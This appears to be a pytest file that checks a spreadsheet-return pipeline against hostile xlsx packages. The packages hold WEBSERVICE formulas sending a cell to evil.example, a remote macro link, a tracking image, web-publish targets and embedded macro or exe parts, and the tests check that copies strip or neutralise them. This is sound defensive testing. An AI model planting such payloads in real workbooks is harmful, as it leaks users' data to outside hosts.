def test_a_package_libreoffice_saved_and_libreoffice_opening_the_copies(forms, tmp_path):
    """A form LibreOffice saved (its own attribute style: function="false" names, overrides for
    relationship parts, an empty custom.xml) is marked in place; the copies of the unusual
    packages above load in LibreOffice with 问题清单 first and every flag commented."""
    from openpyxl.comments import Comment

    data, content = forms["cover"]
    wb = load_workbook(io.BytesIO(data))
    ws = wb["自评表"]
    ws["A1"].comment, ws["C13"].comment = Comment("单位批注", "填表人"), Comment("旧批注", "填表人")
    ws.print_title_rows = "1:3"
    ws["K1"], ws["K2"] = '=HYPERLINK("http://evil.example/","x")', "=SUM(C13:E13)"
    src = tmp_path / "src" / "lo.xlsx"
    src.parent.mkdir()
    wb.save(src)
    _soffice([src], tmp_path / "lo", tmp_path / "profile")
    saved = (tmp_path / "lo" / "lo.xlsx").read_bytes()
    copies = {"lo": (made(saved, content), content)}
    copies["comments"] = (made(with_comments(forms["xw"][0], ["A1", "C26"]), forms["xw"][1]), forms["xw"][1])
    pretty = edit(forms["op"][0], {SHEET1: lambda x: x.replace("><", ">\n  <")})
    copies["pretty"] = (made(pretty, forms["op"][1]), forms["op"][1])
    folder = tmp_path / "copies"
    folder.mkdir()
    for name, (fast, _) in copies.items():
        (folder / f"{name}.xlsx").write_bytes(fast)
    _soffice(sorted(folder.iterdir()), tmp_path / "back", tmp_path / "profile")
    for name, (fast, c) in copies.items():
        back = load_workbook(tmp_path / "back" / f"{name}.xlsx")
        assert back.sheetnames[0] == "问题清单", name
        got = {(s.title, x.coordinate) for s in back.worksheets[1:] for row in s.iter_rows() for x in row if x.comment}
        assert got >= set(comments_of(fast)) - {k for k in comments_of(fast) if k[0] == "问题清单"}, name
    assert load_workbook(tmp_path / "back" / "lo.xlsx")["自评表"]["A1"].comment.text.startswith("单位批注")


# ============================================================ found by the attack, mended since
def test_cells_added_to_a_row_stay_in_column_order(forms):
    data, content = forms["op"]
    made(data, flags(content, "K3", "L3", "M3"))


def test_rows_added_stay_in_row_order(forms):
    data, content = forms["op"]
    made(data, flags(content, "Z200", "Z201", "A202", "Z203"))


def test_two_flags_on_an_empty_sheet(forms):
    data, content = forms["cover"]
    made(edit(data, {SHEET1: lambda x: re.sub(r"<sheetData>.*</sheetData>", "<sheetData/>", x)}),
         flags(content, "B2", "C9", sheet="封面"))


@pytest.mark.parametrize("change", [
    lambda x: x.replace(re.search(r'<row r="26".*?</row>', x).group(),
                        re.sub(r' r="[A-Z]+26"', "", re.search(r'<row r="26".*?</row>', x).group())),
    lambda x: x.replace('r="C26"', 'r="c26"'),
], ids=["no-r", "lower-case-r"])
def test_cells_without_their_reference(forms, change):
    """openpyxl reads both (cells counted along the row, references in any case)."""
    data, content = forms["xw"]
    hostile = edit(data, {SHEET1: change})
    load_workbook(io.BytesIO(hostile))
    made_or_unsure(hostile, content, "openpyxl")


def test_content_types_with_a_prefix(forms):
    data, content = forms["xw"]

    def prefixed(x):
        x = x.replace('<Types xmlns="', '<ct:Types xmlns:ct="').replace("</Types>", "</ct:Types>")
        return x.replace("<Default ", "<ct:Default ").replace("<Override ", "<ct:Override ")
    made_or_unsure(edit(data, {TYPES: prefixed}), content, "openpyxl")


def test_sheet_relationships_with_a_prefix(forms):
    data, content = forms["xw"]
    made_or_unsure(with_comments(data, ["A1", "C26"], prefix="pr"), content, "openpyxl")


def test_printer_settings_of_a_custom_view(forms):
    data, content = forms["xw"]
    views = ('<customSheetViews><customSheetView guid="{11111111-2222-3333-4444-555555555555}" scale="90">'
             '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/>'
             '<pageSetup paperSize="9" orientation="portrait" r:id="rId1"/></customSheetView></customSheetViews>')
    hostile = edit(data, {
        SHEET1: lambda x: x.replace("<mergeCells", views + "<mergeCells", 1).replace(
            "</worksheet>", '<pageSetup paperSize="9" orientation="landscape" r:id="rId2"/></worksheet>'),
        _rels_of(SHEET1): rels(("rId1", "printerSettings", "../printerSettings/printerSettings1.bin", False),
                               ("rId2", "printerSettings", "../printerSettings/printerSettings2.bin", False)),
        "xl/printerSettings/printerSettings1.bin": b"\0" * 40, "xl/printerSettings/printerSettings2.bin": b"\1" * 40,
        TYPES: add_types(defaults=[("bin", CT_PRINTER)])})
    made_or_unsure(hostile, content, "in place")


def test_printer_settings_typed_by_an_override(forms):
    data, content = forms["xw"]
    hostile = edit(data, {
        SHEET1: at_end('<pageSetup paperSize="9" r:id="rId2"/>'),
        _rels_of(SHEET1): rels(("rId2", "printerSettings", "../printerSettings/printerSettings2.bin", False)),
        "xl/printerSettings/printerSettings2.bin": b"\1" * 40,
        TYPES: add_types(("xl/printerSettings/printerSettings2.bin", CT_PRINTER))})
    made_or_unsure(hostile, content, "in place")


def test_a_form_control_on_an_unflagged_sheet(forms):
    data, content = forms["cover"]
    button = ("B8", "Button", "<x:PrintObject>False</x:PrintObject><x:FmlaMacro>'\\\\evil.example\\share\\m.xlsm'!Auto"
                              "</x:FmlaMacro>")
    hostile = edit(data, {"xl/drawings/vmlDrawing9.vml": vml([button]),
                          _rels_of(SHEET1): rels(("rId8", "vmlDrawing", "../drawings/vmlDrawing9.vml", False)),
                          TYPES: add_types(defaults=[("vml", CT_VML)]),
                          SHEET1: at_end('<legacyDrawing r:id="rId8"/>')})
    made_or_unsure(hostile, content, "openpyxl")


def test_an_external_image_in_an_unflagged_sheets_header(forms):
    data, content = forms["cover"]
    header = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
              '<o:shapelayout v:ext="edit"><o:idmap v:ext="edit" data="5"/></o:shapelayout><v:shape id="LH" '
              'o:spid="_x0000_s5121" type="#_x0000_t75" style="position:absolute;width:40pt;height:40pt;z-index:1">'
              '<v:imagedata o:relid="rId1" o:title="logo"/></v:shape></xml>')
    hostile = edit(data, {
        "xl/drawings/vmlDrawingHF1.vml": header,
        "xl/drawings/_rels/vmlDrawingHF1.vml.rels": rels(("rId1", "image", "http://evil.example/track.png", True)),
        _rels_of(SHEET1): rels(("rId5", "vmlDrawing", "../drawings/vmlDrawingHF1.vml", False)),
        TYPES: add_types(defaults=[("vml", CT_VML)]),
        SHEET1: at_end('<headerFooter><oddHeader>&amp;L&amp;G</oddHeader></headerFooter><legacyDrawingHF r:id="rId5"/>')})
    assert not [n for n in names_of(openpyxls(hostile, content)) if n.endswith(".rels")
                and b"evil.example" in zipfile.ZipFile(io.BytesIO(openpyxls(hostile, content))).read(n)]
    made_or_unsure(hostile, content, "openpyxl")


@pytest.mark.parametrize("name", ["O'Brien表", "A!B"])
def test_print_settings_of_a_sheet_with_an_odd_name(forms, name):
    data, content = forms["xw"]
    quoted = esc("'" + name.replace("'", "''") + "'")
    names = (f'<definedNames><definedName name="_xlnm.Print_Titles" localSheetId="0">{quoted}!$1:$3</definedName>'
             f'<definedName name="_xlnm.Print_Area" localSheetId="0">{quoted}!$A$1:$I$55</definedName></definedNames>')
    hostile = edit(data, {WORKBOOK: lambda x: x.replace('name="自评表"', f'name="{esc(name)}"')
                          .replace("</sheets>", "</sheets>" + names)})
    fast = made_or_unsure(hostile, on_sheet(content, name), "in place")
    assert load_workbook(io.BytesIO(fast))[name].print_title_rows == "$1:$3"


def test_custom_properties_in_single_quotes(forms):
    data, content = forms["xw"]
    body = (f"<property fmtid='{FMTID}' pid='2' name='selfeval'><vt:lpwstr>summary</vt:lpwstr></property>"
            f"<property fmtid='{FMTID}' pid='3' name='x'><vt:lpwstr>y</vt:lpwstr></property>")
    made_or_unsure(_with_custom(data, body), content, "in place")


def test_an_unlisted_custom_part_of_another_case(forms):
    data, content = forms["xw"]
    made_or_unsure(edit(data, {"docProps/Custom.xml": b"<Properties/>"}), content, "in place")


@pytest.mark.parametrize("where, change", [
    (STYLES, lambda x: x.replace("<cellXfs count=\"2\">", '<cellXfs count="2"><!-- <xf numFmtId="0" fontId="0" '
                                                          'fillId="0" borderId="0" xfId="0"/> -->')),
    (WORKBOOK, lambda x: x.replace("</sheets>", '<!-- <sheet name="旧表" sheetId="9" r:id="rId1"/> --></sheets>')),
    (WORKBOOK, lambda x: x.replace("</sheets>", '</sheets><definedNames><!-- <definedName name="ghost">自评表!$A$1'
                                                "</definedName> --></definedNames>")),
], ids=["styles", "sheets", "names"])
def test_xml_comments_outside_the_worksheets(forms, where, change):
    data, content = forms["xw"]
    hostile = edit(data, {where: change})
    assert "<!--" in part(hostile, where)
    made_or_unsure(hostile, content, "openpyxl")


def test_web_publishing_does_not_come_back(forms):
    data, content = forms["xw"]
    hostile = edit(data, {
        WORKBOOK: lambda x: x.replace("</workbook>", '<webPublishObjects count="1"><webPublishObject id="1" divId="x_1" '
                                      'destinationFile="\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
                                      "</webPublishObjects></workbook>"),
        SHEET1: at_end('<webPublishItems count="1"><webPublishItem id="2" divId="x_2" sourceType="sheet" '
                       'destinationFile="\\\\evil.example\\share\\y.htm" autoRepublish="1"/></webPublishItems>')})
    assert "webPublish" not in part(openpyxls(hostile, content), WORKBOOK)
    fast = made_or_unsure(hostile, content, "in place")
    assert not any("webPublish" in part(fast, n) for n in (WORKBOOK, SHEET1))


def test_parts_nothing_refers_to_do_not_come_back(forms):
    data, content = forms["xw"]
    hostile = edit(data, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro", "xl/media/tool.exe": b"MZ",
                          TYPES: add_types(("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject"),
                                           ("xl/media/tool.exe", "application/octet-stream"))})
    assert not {"xl/vbaProject.bin", "xl/media/tool.exe"} & set(names_of(openpyxls(hostile, content)))
    fast = made_or_unsure(hostile, content, "in place")
    assert not {"xl/vbaProject.bin", "xl/media/tool.exe"} & set(names_of(fast))


def test_a_control_character_in_the_units_name(forms, tmp_path):
    data, content = forms["xw"]
    inbox = tmp_path / "in"
    inbox.mkdir()
    (inbox / "u.xlsx").write_bytes(edit(data, {"xl/sharedStrings.xml": lambda x: x.replace("测试单位", "测试_x0001__x001F_单位")}))
    task = tasks_of(inbox, tmp_path / "out")[0]
    assert "\x01\x1f" in task[2]["head"]["unit"]   # the reader decodes the unit's _xHHHH_
    src = (inbox / "u.xlsx").read_bytes()
    broken = []
    for path, copy in (("in place", lambda: in_place(src, task[2])), ("openpyxl", lambda: openpyxls(src, task[2]))):
        try:
            assert_sound(copy())
        except ElementTree.ParseError as e:
            broken.append((path, str(e)))
    assert broken == []


def test_an_active_array_formula_through_openpyxl(forms):
    from openpyxl.worksheet.formula import ArrayFormula

    data, content = forms["xw"]
    hostile = edit(data, {SHEET1: row_end(1, '<c r="K1"><f t="array" ref="K1">_xlfn.WEBSERVICE("http://evil.example/?"'
                                              "&amp;B3)</f><v>0</v></c>")})
    fast = in_place(hostile, content)
    assert load_workbook(io.BytesIO(fast))["自评表"]["K1"].data_type == "s"   # in place: inert text
    value = load_workbook(io.BytesIO(openpyxls(hostile, content)))["自评表"]["K1"].value
    assert not (isinstance(value, ArrayFormula) and "WEBSERVICE" in value.text)


def test_formulas_of_conditional_formats_and_validations(forms):
    """A rule whose formula could reach out (WEBSERVICE) is gone on both ways of making a copy;
    a colour rule and a drop-down list that stay inside the book stay."""
    data, content = forms["xw"]
    rules = ('<conditionalFormatting sqref="C26"><cfRule type="expression" priority="1"><formula>LEN(_xlfn.WEBSERVICE('
             '"http://evil.example/?"&amp;B3))&gt;0</formula></cfRule></conditionalFormatting>'
             '<conditionalFormatting sqref="C28"><cfRule type="cellIs" operator="lessThan" priority="2"><formula>0</formula>'
             '</cfRule></conditionalFormatting>'
             '<dataValidations count="2"><dataValidation type="custom" allowBlank="1" sqref="C27"><formula1>'
             'LEN(_xlfn.WEBSERVICE("http://evil.example/"))&gt;0</formula1></dataValidation>'
             '<dataValidation type="list" allowBlank="1" sqref="C29"><formula1>"优,良,中,差"</formula1></dataValidation>'
             '</dataValidations>')
    hostile = edit(data, {SHEET1: lambda x: x.replace("<pageMargins", rules + "<pageMargins")})
    fast = made(hostile, content)
    assert "WEBSERVICE" not in part(fast, SHEET1)
    assert 'sqref="C28"' in part(fast, SHEET1) and "优,良,中,差" in part(fast, SHEET1)
    from pipeline.write.returns import openpyxl_copy

    buf = io.BytesIO()
    openpyxl_copy(Path("x.xlsx"), hostile, content).save(buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("WEBSERVICE" in x for x in sheets)
    assert any('sqref="C28"' in x for x in sheets) and any("优,良,中,差" in x for x in sheets)


def test_an_ods_sheet_with_a_long_name_keeps_its_marks(forms, tmp_path):
    name = "很长的工作表名称" * 5
    content_xml = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
                   'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
                   'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
                   f'<office:spreadsheet><table:table table:name="{name}"><table:table-row><table:table-cell '
                   'office:value-type="string"><text:p>标题</text:p></table:table-cell></table:table-row><table:table-row>'
                   '<table:table-cell office:value-type="string"><text:p>项目</text:p></table:table-cell><table:table-cell '
                   'office:value-type="float" office:value="1.5"><text:p>1.5</text:p></table:table-cell></table:table-row>'
                   "</table:table></office:spreadsheet></office:body></office:document-content>")
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
                'xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type='
                '"application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry manifest:full-path="content.xml" '
                'manifest:media-type="text/xml"/></manifest:manifest>')
    src = tmp_path / "long.ods"
    with zipfile.ZipFile(src, "w") as z:
        z.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content_xml, zipfile.ZIP_DEFLATED)
        z.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    from pipeline.read.open import read_book

    assert read_book(src).sheets[0].name == name
    content = flags(forms["xw"][1], "B2", sheet=name)
    data = src.read_bytes()
    assert return_job(str(src), "long.xlsx", content, hashlib.sha256(data).hexdigest(), str(tmp_path / "r")) == "long.xlsx"
    wb = load_workbook(tmp_path / "r" / "long.xlsx")
    assert wb.worksheets[1]["B2"].comment is not None and wb["问题清单"]["F7"].hyperlink is not None
